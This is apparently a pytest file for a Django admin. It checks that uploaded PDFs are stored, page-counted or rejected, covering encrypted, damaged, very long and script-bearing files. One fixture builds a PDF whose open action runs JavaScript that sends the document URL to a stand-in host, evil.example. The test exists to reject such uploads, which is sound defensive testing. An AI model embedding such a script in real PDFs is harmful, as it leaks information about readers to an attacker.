"""PDFs of policy papers as colleagues send them (protected, damaged, long, with scripts), uploaded with a
publication through the admin, as readers then download them."""

from __future__ import annotations

from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript

from media.pdf import pdf_page_count
from publications.models import Publication
from tests.publications.test_admin import publication_post

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _media(settings, _media_root):
    settings.MAX_PDF_UPLOAD_BYTES = 25 * 1024 * 1024
    return _media_root


def written(writer: PdfWriter) -> bytes:
    buffer = BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def paper(pages: int = 2, **encryption) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if encryption:
        writer.encrypt(**encryption)
    return written(writer)


def pdf_from(objects: list[bytes], trailer: bytes) -> bytes:
    """A PDF of these objects (numbered from 1) with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref)
    return bytes(out)


def certificate_encrypted() -> bytes:
    """Encrypted for named recipients' certificates (Acrobat's "Certificate Security"), no password."""
    encrypt = b"<< /Filter /Adobe.PubSec /SubFilter /adbe.pkcs7.s5 /V 4 /Length 128 /Recipients [<3082>] >>"
    return pdf_from(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>", encrypt],
        b"/Root 1 0 R /Encrypt 3 0 R /ID [<" + b"ab" * 16 + b"> <" + b"ab" * 16 + b">]",
    )


def long_report(pages: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (3 + page) for page in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages),
    ]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"] * pages
    return pdf_from(objects, b"/Root 1 0 R")


def with_script() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_open_action(JavaScript("app.launchURL('https://evil.example/?' + this.URL);"))
    return written(writer)


def broken_cross_references() -> bytes:
    data = paper(3)
    return data[: data.rindex(b"startxref")] + b"startxref\n999999\n%%EOF\n"


def upload(client, content: bytes):
    data = {**publication_post(), "pdf": SimpleUploadedFile("paper.pdf", content)}
    return client.post(reverse("admin:publications_publication_add"), data)


@pytest.mark.parametrize(
    ("content", "pages"),
    [
        (paper(2, user_password="", owner_password="owner", algorithm="RC4-128"), 2),
        # Acrobat's "restrict editing" today: AES-256 with an owner password only (pypdf reads AES with the
        # `cryptography` package, a dependency for this).
        (paper(2, user_password="", owner_password="owner", algorithm="AES-256"), 2),
        (broken_cross_references(), 3),
    ],
    ids=["owner-password-only", "aes-256-owner-password-only", "broken-xref"],
)
def test_a_pdf_readers_can_open_is_stored_and_counted_when_pypdf_can(editor_client, _media, content, pages):
    response = upload(editor_client, content)

    assert response.status_code == 302
    publication = Publication.objects.get()
    assert publication.pdf.read() == content
    assert (publication.pdf_size, publication.pdf_pages) == (len(content), pages)


@pytest.mark.parametrize(
    ("content", "error"),
    [
        (paper(2, user_password="secret", owner_password="owner", algorithm="RC4-128"), "needs a password"),
        (paper(2, user_password="secret", owner_password="owner", algorithm="AES-256"), "needs a password"),
        (certificate_encrypted(), "encrypted for its recipients"),
        (with_script(), "runs JavaScript or starts a program"),
    ],
    ids=["password-to-open", "aes-256-password-to-open", "certificate-encrypted", "javascript-on-open"],
)
def test_a_pdf_readers_could_not_open_or_that_runs_a_script_is_a_form_error(
    editor_client, _media, content, error
):
    response = upload(editor_client, content)

    assert response.status_code == 200
    (message,) = response.context["adminform"].form.errors["pdf"]
    assert error in message
    assert not Publication.objects.exists() and not any(_media.rglob("*.pdf"))


def test_a_long_report_is_counted_from_its_page_tree_without_walking_every_page(monkeypatch):
    report = BytesIO(long_report(50_000))

    def walked(reader):
        # Walking 50,000 pages took pypdf over 10 s here: past the admin request's time limit (30 s) at the
        # 25 MB a PDF may weigh.
        raise AssertionError("every page was walked")

    monkeypatch.setattr(PdfReader, "pages", property(walked))

    assert pdf_page_count(report) == 50_000
